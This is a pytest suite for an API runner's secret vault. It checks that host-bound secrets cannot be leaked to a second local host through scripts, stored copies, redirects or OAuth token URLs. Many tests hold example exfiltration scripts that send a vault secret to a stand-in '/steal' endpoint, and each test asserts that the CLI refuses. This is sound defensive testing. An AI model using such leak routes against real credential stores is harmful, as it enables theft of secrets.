"""Routes around the allow-list, each tried through the real CLI (issue 11, classes 2 to 4).

The vault holds ``token``, allowed only on 127.0.0.1. The recording server on 127.0.0.1 is the
"allowed" host; a second recording server on 127.0.0.2 stands for a host that must never see
the secret. Every run has every reporter and export switched on. Each attack asserts the refusal
(exit code 5, a vault error naming the secret), that the other host received nothing (or, for a
redirect hop with the secret stripped, nothing of the secret), and that no output holds it.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from support.build import api, auth, folder, write_collection
from support.cli import CliResult, RunCli
from support.servers import RecordingServer

SHORT = "tok_Qz7-route-canary-0042"
#: A 1 KB and a 64 KB secret (printable, with the characters encoders change: + / = and space).
KILO = ("k1+/= " + "A9b8C7d6" * 128)[:1024]
BIG = ("b64+/= " + "Zy0Xw1Vu2Ts3" * 5600)[:65536]


@pytest.fixture()
def other() -> Iterator[RecordingServer]:
    """A recorder on 127.0.0.2: the host the secret must never reach."""
    with RecordingServer(host="127.0.0.2") as server:
        yield server


def _store(run_cli: RunCli, key: str, value: str, *hosts: str) -> None:
    args = ["vault", "set", key, "-"]
    for host in hosts:
        args += ["--allow-host", host]
    result = run_cli(*args, input=value)
    assert result.code == 0, result


def _run(run_cli: RunCli, tmp_path: Path, *records: dict[str, Any], extra: tuple[str, ...] = ()) -> CliResult:
    collection = write_collection(tmp_path / "c.json", folder("c", "Routes"), *records)
    out = tmp_path / "out"
    return run_cli(
        "run", collection, "--reporters", "cli,json,junit,html",
        "--reporter-json-export", out / "r.json", "--reporter-junit-export", out / "r.xml",
        "--reporter-html-export", out / "r.html", "--export-environment", out / "env.json",
        "--export-globals", out / "globals.json", "--export-cookie-jar", out / "cookies.json",
        *extra, timeout=90,
    )


def _outputs(result: CliResult, tmp_path: Path) -> str:
    texts = [result.stdout, result.stderr]
    texts += [p.read_text(encoding="utf-8", errors="replace") for p in sorted((tmp_path / "out").glob("*"))]
    return "\n".join(texts)


def _forms(secret: str) -> list[str]:
    return [secret, quote(secret, safe=""), quote(secret), base64.b64encode(secret.encode()).decode(), json.dumps(secret)[1:-1]]


def _assert_refused(result: CliResult, index: int = 0, *, key: str = "token") -> dict[str, Any]:
    assert result.code == 5, result
    error = result.json["executions"][index]["error"]
    assert error is not None and error["type"] == "vault", error
    assert repr(key) in error["message"], error
    assert "Traceback" not in result.output
    return error


def _assert_never_seen(secret: str, result: CliResult, tmp_path: Path, other: RecordingServer) -> None:
    everything = _outputs(result, tmp_path)
    for form in _forms(secret):
        assert form not in everything, "secret in an output"
    for req in other.requests:
        raw = req.raw_path + req.text + "".join(f"{k}: {v}" for k, v in req.headers)
        assert not any(form in raw for form in _forms(secret)), req


# --- class 2: allow-lists follow values, not names -----------------------------------------------------------------

def test_post_response_script_forwards_the_rendered_header(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    post = (f'sent = rq.request.headers.get("X-Key")\n'
            f'rq.sendRequest({{"url": "{other.url}/steal", "headers": {{"X-Got": sent}}}})')
    result = _run(run_cli, tmp_path, api("a", "Authed", "c", recording_server.url + "/a",
                                         headers=[{"key": "X-Key", "value": "{{vault:token}}"}], post=post))
    error = _assert_refused(result)
    assert error["source"] == "post-response" and "127.0.0.2" in error["message"], error
    assert len(other.requests) == 0
    assert recording_server.requests[0].header("X-Key") == SHORT  # the allowed host got it
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_secret_stored_in_a_variable_then_sent_by_the_next_request(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    result = _run(
        run_cli, tmp_path,
        api("a", "Copy", "c", recording_server.url + "/a", pre='rq.environment.set("stash", rq.vault.get("token"))'),
        api("b", "Send", "c", other.url + "/steal", headers=[{"key": "X-Stash", "value": "{{stash}}"}]),
    )
    _assert_refused(result, 1)
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_secret_copied_under_a_new_vault_key_keeps_its_hosts(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    result = _run(
        run_cli, tmp_path,
        api("a", "Copy", "c", recording_server.url + "/a", pre='rq.vault.set("copy", rq.vault.get("token"))'),
        api("b", "Send", "c", other.url + "/steal?k={{vault:copy}}"),
    )
    _assert_refused(result, 1, key="copy")
    assert len(other.requests) == 0
    vault = json.loads(run_cli("vault", "list", "--json").stdout)
    hosts = {s["key"]: s["allow_hosts"] for s in vault["secrets"]}
    assert hosts["copy"] == ["127.0.0.1"], hosts  # persisted with the original's host list
    # A later run that never reads "token" still cannot send the copy elsewhere.
    later = _run(run_cli, tmp_path, api("b", "Send", "c", other.url + "/steal?k={{vault:copy}}"))
    _assert_refused(later, key="copy")
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_a_script_cannot_unset_a_host_bound_key_to_recreate_it_unbound(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    pre = 'rq.vault.unset("token")\nrq.vault.set("token", "' + SHORT + '")'
    result = _run(run_cli, tmp_path, api("a", "Unset", "c", recording_server.url + "/a", pre=pre),
                  api("b", "Send", "c", other.url + "/steal?k={{vault:token}}"))
    error = _assert_refused(result)
    assert "scripts cannot remove it" in error["message"], error
    assert result.json["executions"][1]["error"]["type"] == "vault"
    assert len(other.requests) == 0
    vault = json.loads(run_cli("vault", "list", "--json").stdout)
    assert {s["key"]: s["allow_hosts"] for s in vault["secrets"]}["token"] == ["127.0.0.1"]


def test_an_unbound_copy_made_by_hand_is_caught_by_value(run_cli, tmp_path, recording_server, other):
    """A copy stored without --allow-host (by hand, or by an older rqrun) is still the same secret."""
    _store(run_cli, "token", SHORT, "127.0.0.1")
    _store(run_cli, "copy", SHORT)
    result = _run(run_cli, tmp_path, api("b", "Send", "c", other.url + "/steal",
                                         method="POST", body='{"k": "{{vault:copy}}"}', content_type="application/json"))
    _assert_refused(result)
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_secret_echoed_by_the_allowed_server_confines_the_run(run_cli, tmp_path, recording_server, other):
    """The allowed host answers with the secret in its body: the script that reads it is confined."""
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.respond("/echo", body={"you_sent": SHORT})
    post = f'rq.sendRequest("{other.url}/steal?k=" + rq.response.json()["you_sent"][::-1])'
    result = _run(run_cli, tmp_path, api("a", "Echo", "c", recording_server.url + "/echo",
                                         headers=[{"key": "X-Key", "value": "{{vault:token}}"}], post=post))
    _assert_refused(result)
    assert len(other.requests) == 0


@pytest.mark.parametrize("secret", [KILO, BIG], ids=["1KB", "64KB"])
def test_large_secrets_stored_in_variables_are_caught(run_cli, tmp_path, recording_server, other, secret):
    _store(run_cli, "token", secret, "127.0.0.1")
    result = _run(
        run_cli, tmp_path,
        api("a", "Copy", "c", recording_server.url + "/a", pre='rq.globals.set("stash", rq.vault.get("token"))'),
        api("b", "Send", "c", other.url + "/steal", method="POST", body="{{stash}}"),
    )
    _assert_refused(result, 1)
    assert len(other.requests) == 0
    _assert_never_seen(secret, result, tmp_path, other)


def test_refusal_names_the_host_as_written_so_a_secret_in_it_stays_masked(run_cli, tmp_path, recording_server):
    mixed = "TokMixedCASE-Canary"
    _store(run_cli, "token", mixed, "127.0.0.1")
    result = _run(run_cli, tmp_path, api("a", "Host", "c", "http://{{vault:token}}.invalid/x"))
    _assert_refused(result)
    everything = _outputs(result, tmp_path)
    assert mixed not in everything and mixed.lower() not in everything


# --- class 3: redirects --------------------------------------------------------------------------------------------

def test_redirect_drops_a_secret_header_before_another_origin(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.redirect("/go", other.url + "/landed", status=302)
    result = _run(run_cli, tmp_path, api("a", "Redirected", "c", recording_server.url + "/go",
                                         headers=[{"key": "X-Key", "value": "{{vault:token}}"},
                                                  {"key": "Authorization", "value": "Bearer {{vault:token}}"}]))
    assert result.code == 0, result
    assert recording_server.requests[0].header("X-Key") == SHORT
    assert other.requests.paths == ["/landed"]
    hop = other.requests[0]
    assert hop.header("X-Key") is None and hop.header("Authorization") is None
    _assert_never_seen(SHORT, result, tmp_path, other)


@pytest.mark.parametrize("status", [307, 308])
def test_redirect_never_resends_a_secret_body_to_another_origin(run_cli, tmp_path, recording_server, other, status):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.redirect("/go", other.url + "/landed", status=status)
    result = _run(run_cli, tmp_path, api("a", "Body", "c", recording_server.url + "/go", method="POST",
                                         body='{"token": "{{vault:token}}"}', content_type="application/json"))
    assert result.code == 5, result
    error = result.json["executions"][0]["error"]
    assert error["type"] == "vault" and "redirect" in error["message"], error
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_redirect_to_a_location_holding_the_secret_is_refused(run_cli, tmp_path, recording_server, other):
    """A redirect whose target URL carries the secret (the server built it from the request)."""
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.redirect("/go", other.url + "/landed?k=" + quote(SHORT, safe=""), status=302)
    result = _run(run_cli, tmp_path, api("a", "Loc", "c", recording_server.url + "/go",
                                         headers=[{"key": "X-Key", "value": "{{vault:token}}"}]))
    _assert_refused(result)
    assert len(other.requests) == 0


def test_send_request_redirect_with_a_secret_body_is_refused(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.redirect("/go", other.url + "/landed", status=307)
    pre = (f'rq.sendRequest({{"url": "{recording_server.url}/go", "method": "POST", '
           f'"body": {{"mode": "raw", "raw": "{{{{vault:token}}}}"}}}})')
    result = _run(run_cli, tmp_path, api("a", "Script", "c", recording_server.url + "/a", pre=pre))
    error = result.json["executions"][0]["error"]
    assert result.code == 5, result
    assert error["type"] == "vault" and error["source"] == "pre-request" and "redirect" in error["message"], error
    assert len(other.requests) == 0
    assert "/a" not in recording_server.requests.paths  # the refused pre-request stopped its request


# --- class 4: OAuth 2.0 token requests -----------------------------------------------------------------------------

@pytest.mark.parametrize("client_auth", ["header", "body"])
def test_oauth_client_secret_is_not_posted_to_another_token_url(run_cli, tmp_path, recording_server, other, client_auth):
    _store(run_cli, "cs", SHORT, "127.0.0.1")
    other.respond("/token", body={"access_token": "at", "expires_in": 60})
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=other.url + "/token", clientId="me",
                 clientSecret="{{vault:cs}}", client_authentication=client_auth)
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    _assert_refused(result, key="cs")
    assert "OAuth token request" in result.json["executions"][0]["error"]["message"]
    assert len(other.requests) == 0 and len(recording_server.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_oauth_password_is_not_posted_to_another_token_url(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "pw", SHORT, "127.0.0.1")
    other.respond("/token", body={"access_token": "at"})
    oauth = auth("OAUTH2", grant_type="password", accessTokenUrl=other.url + "/token", clientId="me",
                 clientSecret="public", username="ada", password="{{vault:pw}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    _assert_refused(result, key="pw")
    assert len(other.requests) == 0


def test_oauth_token_url_redirecting_elsewhere_is_refused(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "cs", SHORT, "127.0.0.1")
    recording_server.redirect("/token", other.url + "/token", status=307)
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    assert result.code == 5, result
    assert result.json["executions"][0]["error"]["type"] == "vault"
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_oauth_to_an_allowed_token_url_still_works(run_cli, tmp_path, recording_server):
    _store(run_cli, "cs", SHORT, "127.0.0.1")
    recording_server.respond("/token", body={"access_token": "at-123456789", "expires_in": 60})
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    assert result.code == 0, result
    assert recording_server.requests.to("/api")[0].header("Authorization") == "Bearer at-123456789"


# --- red-team round 2 ----------------------------------------------------------------------------------------------
#
# Secrets shorter than the gate's search length (8) are followed by name and by confinement only,
# and a transformed copy (reversed, split) by confinement only: each route below used to let one out.

TINY = "Zq5w9"  # below MIN_SEARCH_LENGTH, above the redactor's inline minimum
WEE = "k9x"  # below both: masked only as a whole value


def _hosts(run_cli: RunCli) -> dict[str, Any]:
    vault = json.loads(run_cli("vault", "list", "--json").stdout)
    return {s["key"]: s["allow_hosts"] for s in vault["secrets"]}


def _next_run_sends(run_cli, tmp_path, other, key: str) -> CliResult:
    """A later run that never reads the original: it sends ``{{vault:key}}`` to 127.0.0.2.

    Its collection and outputs are under ``tmp_path / "next-<key>"``."""
    (tmp_path / f"next-{key}").mkdir()
    return _run(run_cli, tmp_path / f"next-{key}", api("b", "Send", "c", other.url + "/steal?k={{vault:" + key + "}}",
                                                headers=[{"key": "X-K", "value": "{{vault:" + key + "}}"}]))


# finding 2: values a confined script stores in the vault inherit the hosts, across runs

@pytest.mark.parametrize("secret", [SHORT, TINY], ids=["long", "short"])
def test_script_stores_a_reversed_copy_and_the_next_run_cannot_send_it(run_cli, tmp_path, recording_server, other, secret):
    _store(run_cli, "token", secret, "127.0.0.1")
    first = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a",
                                        pre='rq.vault.set("copy", rq.vault.get("token")[::-1])'))
    assert first.code == 0, first
    assert _hosts(run_cli)["copy"] == ["127.0.0.1"]  # persisted with the confining hosts
    later = _next_run_sends(run_cli, tmp_path, other, "copy")
    _assert_refused(later, key="copy")
    assert len(other.requests) == 0
    _assert_never_seen(secret, later, tmp_path / "next-copy", other)


def test_script_splits_a_secret_over_two_keys_and_the_next_run_cannot_send_either(
    run_cli, tmp_path, recording_server, other
):
    _store(run_cli, "token", SHORT, "127.0.0.1")
    pre = 's = rq.vault.get("token")\nrq.vault.set("half1", s[:12])\nrq.vault.set("half2", s[12:].upper())'
    first = _run(run_cli, tmp_path, api("a", "Split", "c", recording_server.url + "/a", pre=pre))
    assert first.code == 0, first
    hosts = _hosts(run_cli)
    assert hosts["half1"] == ["127.0.0.1"] and hosts["half2"] == ["127.0.0.1"], hosts
    for key in ("half1", "half2"):
        _assert_refused(_next_run_sends(run_cli, tmp_path, other, key), key=key)
    assert len(other.requests) == 0


@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
def test_exact_copy_of_a_short_secret_inherits_its_hosts_without_any_read(run_cli, tmp_path, recording_server, other, secret):
    """The script never reads the secret (no confinement): the copy is recognised by value."""
    _store(run_cli, "token", secret, "127.0.0.1")
    first = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a",
                                        pre=f'rq.vault.set("copy", "{secret}")'))
    assert first.code == 0, first
    assert _hosts(run_cli)["copy"] == ["127.0.0.1"]
    _assert_refused(_next_run_sends(run_cli, tmp_path, other, "copy"), key="copy")
    assert len(other.requests) == 0


def test_copy_made_after_reading_secrets_with_disjoint_hosts_is_not_stored(run_cli, tmp_path, recording_server, other):
    """Confined by two secrets with no host in common, a stored value could go nowhere: refused."""
    _store(run_cli, "token", SHORT, "127.0.0.1")
    _store(run_cli, "elsewhere", "other-canary-77", "api.example.com")
    pre = 'rq.vault.set("copy", rq.vault.get("token")[::-1] + rq.vault.get("elsewhere")[::-1])'
    result = _run(run_cli, tmp_path, api("a", "Copy", "c", recording_server.url + "/a", pre=pre))
    error = _assert_refused(result, key="copy")
    assert error["source"] == "pre-request", error
    assert "copy" not in _hosts(run_cli)
    assert len(other.requests) == 0 and len(recording_server.requests) == 0


# finding 3: OAuth 2.0 token requests check the vault keys their parameters used, by name

@pytest.mark.parametrize("client_auth", ["header", "body"])
@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
def test_oauth_short_client_secret_is_not_posted_to_another_token_url(
    run_cli, tmp_path, recording_server, other, client_auth, secret
):
    _store(run_cli, "cs", secret, "127.0.0.1")
    other.respond("/token", body={"access_token": "at-0123456789", "expires_in": 60})
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=other.url + "/token", clientId="me",
                 clientSecret="{{vault:cs}}", client_authentication=client_auth)
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    _assert_refused(result, key="cs")
    assert "OAuth token request" in result.json["executions"][0]["error"]["message"]
    assert len(other.requests) == 0 and len(recording_server.requests) == 0


def test_oauth_short_password_is_not_posted_to_another_token_url(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "pw", TINY, "127.0.0.1")
    other.respond("/token", body={"access_token": "at-0123456789"})
    oauth = auth("OAUTH2", grant_type="password", accessTokenUrl=other.url + "/token", clientId="me",
                 clientSecret="public", username="ada", password="{{vault:pw}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    _assert_refused(result, key="pw")
    assert len(other.requests) == 0
    _assert_never_seen(TINY, result, tmp_path, other)


def test_oauth_short_secret_redirected_to_another_token_url_is_refused(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "cs", WEE, "127.0.0.1")
    recording_server.redirect("/token", other.url + "/token", status=307)
    other.respond("/token", body={"access_token": "at-0123456789"})
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    _assert_refused(result, key="cs")
    assert len(other.requests) == 0


def test_oauth_short_secret_to_an_allowed_token_url_still_works(run_cli, tmp_path, recording_server):
    _store(run_cli, "cs", WEE, "127.0.0.1")
    recording_server.respond("/token", body={"access_token": "at-0123456789", "expires_in": 60})
    oauth = auth("OAUTH2", grant_type="client_credentials", accessTokenUrl=recording_server.url + "/token",
                 clientId="me", clientSecret="{{vault:cs}}", client_authentication="body")
    result = _run(run_cli, tmp_path, api("a", "API", "c", recording_server.url + "/api", auth_=oauth))
    assert result.code == 0, result
    assert recording_server.requests.to("/api")[0].header("Authorization") == "Bearer at-0123456789"


# finding 4: an rq.sendRequest that renders a host-bound secret confines the script that sent it

@pytest.mark.parametrize("secret", [TINY, WEE], ids=["5-chars", "3-chars"])
def test_send_request_echo_of_a_short_secret_cannot_be_forwarded(run_cli, tmp_path, recording_server, other, secret):
    _store(run_cli, "token", secret, "127.0.0.1")
    pre = (f'res = rq.sendRequest({{"url": "{recording_server.url}/echo", "header": {{"X-K": "{{{{vault:token}}}}"}}}})\n'
           'got = [v for k, v in res.json()["headers"] if k == "X-K"][0]\n'
           f'rq.sendRequest("{other.url}/steal?k=" + got[::-1])')
    result = _run(run_cli, tmp_path, api("a", "Echo", "c", recording_server.url + "/a", pre=pre))
    error = _assert_refused(result)
    assert error["source"] == "pre-request" and "127.0.0.2" in error["message"], error
    assert recording_server.requests[0].header("X-K") == secret  # the allowed host got it
    assert len(other.requests) == 0


def test_send_request_answer_transformed_by_the_server_cannot_be_forwarded(run_cli, tmp_path, recording_server, other):
    """The allowed server answers with the secret reversed; the script forwards that as is (the
    receiver reverses it back): no search finds it, confinement does."""
    _store(run_cli, "token", SHORT, "127.0.0.1")
    recording_server.respond("/mirror", body={"mirror": SHORT[::-1]})
    post = (f'res = rq.sendRequest({{"url": "{recording_server.url}/mirror", "header": {{"X-K": "{{{{vault:token}}}}"}}}})\n'
            f'rq.sendRequest({{"url": "{other.url}/steal", "method": "POST", '
            '"body": {"mode": "raw", "raw": res.json()["mirror"]}})')
    result = _run(run_cli, tmp_path, api("a", "Mirror", "c", recording_server.url + "/a", post=post))
    error = _assert_refused(result)
    assert error["source"] == "post-response", error
    assert len(other.requests) == 0
    _assert_never_seen(SHORT, result, tmp_path, other)


def test_send_request_with_a_secret_confines_the_rest_of_the_run(run_cli, tmp_path, recording_server, other):
    """The script hands the echo to a variable; the next collection request to 127.0.0.2 is refused."""
    _store(run_cli, "token", TINY, "127.0.0.1")
    pre = (f'res = rq.sendRequest({{"url": "{recording_server.url}/echo", "method": "POST", '
           '"body": {"mode": "raw", "raw": "{{vault:token}}"}})\n'
           'rq.environment.set("stash", res.json()["body"][::-1])')
    result = _run(run_cli, tmp_path, api("a", "Fetch", "c", recording_server.url + "/a", pre=pre),
                  api("b", "Send", "c", other.url + "/steal", headers=[{"key": "X-Stash", "value": "{{stash}}"}]))
    assert result.json["executions"][0]["error"] is None, result
    _assert_refused(result, 1)
    assert "the rest of the run stays on those hosts" in result.json["executions"][1]["error"]["message"]
    assert len(other.requests) == 0
